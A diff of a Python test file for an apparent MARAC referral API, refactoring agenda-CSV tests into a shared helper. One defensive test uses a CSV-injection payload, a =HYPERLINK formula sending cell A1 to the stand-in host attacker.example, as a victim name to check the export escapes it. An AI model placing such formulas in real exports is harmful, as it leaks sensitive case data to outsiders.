@@ -72,11 +72,10 @@ def test_the_api_reference_loads_its_assets_from_here(api):
         assert api.client.get(asset).status_code == 200
 
 
-def test_a_victim_named_like_a_formula_is_text_in_the_agenda_csv(api):
+def draft_agenda_csv(api, body: dict) -> list[list[str]]:
+    """The rows of a new meeting's draft agenda CSV after an IDVA refers ``body``."""
     import csv
     import io
-
-    from services.kernel.spreadsheet import FORMULA_START
 
     coordinator = api.headers("marac-coord", "coordinator")
     meeting = api.client.post(
@@ -84,20 +83,24 @@ def test_a_victim_named_like_a_formula_is_text_in_the_agenda_csv(api):
         json={"marac_area": "oxford", "meeting_date": "2099-01-08"},
         headers=coordinator,
     ).json()
-    name = '=HYPERLINK("http://attacker.example/?leak="&A1,"Open")'
-    body = referral(victim=name, perpetrator="@SUM(1+1)")
-    assert (
-        api.client.post(
-            "/api/marac/referrals", json=body, headers=api.headers("idva-oxon", "referrer")
-        ).status_code
-        == 201
+    referred = api.client.post(
+        "/api/marac/referrals", json=body, headers=api.headers("idva-oxon", "referrer")
     )
+    assert referred.status_code == 201, referred.text
     exported = api.client.get(
         f"/api/marac/meetings/{meeting['meeting_id']}/agenda?format=csv&draft=true",
         headers=coordinator,
     )
     assert exported.status_code == 200
-    cells = [cell for row in csv.reader(io.StringIO(exported.text)) for cell in row]
+    return list(csv.reader(io.StringIO(exported.text)))
+
+
+def test_a_victim_named_like_a_formula_is_text_in_the_agenda_csv(api):
+    from services.kernel.spreadsheet import FORMULA_START
+
+    name = '=HYPERLINK("http://attacker.example/?leak="&A1,"Open")'
+    rows = draft_agenda_csv(api, referral(victim=name, perpetrator="@SUM(1+1)"))
+    cells = [cell for row in rows for cell in row]
     assert "'" + name in cells
     assert not [cell for cell in cells if cell.startswith(FORMULA_START)]
 
@@ -167,24 +170,7 @@ def test_every_request_body_has_an_example_that_its_own_model_accepts(api):
 @pytest.mark.parametrize("database_url", ["sqlite"], indirect=True)
 def test_the_agenda_csv_is_in_words_a_chair_reads(api):
     """It had field codes for headings and values like visible_high_risk and True."""
-    import csv
-    import io
-
-    coordinator = api.headers("marac-coord", "coordinator")
-    meeting = api.client.post(
-        "/api/marac/meetings",
-        json={"marac_area": "oxford", "meeting_date": "2099-01-08"},
-        headers=coordinator,
-    ).json()
-    refer = api.client.post(
-        "/api/marac/referrals", json=referral(yes=16), headers=api.headers("idva-oxon", "referrer")
-    )
-    assert refer.status_code == 201, refer.text
-    exported = api.client.get(
-        f"/api/marac/meetings/{meeting['meeting_id']}/agenda?format=csv&draft=true",
-        headers=coordinator,
-    )
-    _marking, headings, row = list(csv.reader(io.StringIO(exported.text)))[:3]
+    _marking, headings, row = draft_agenda_csv(api, referral(yes=16))[:3]
     case = dict(zip(headings, row, strict=True))
     assert headings[:3] == ["Position", "Case", "Late"]
     assert case["Criteria met"] == "Visible high risk"
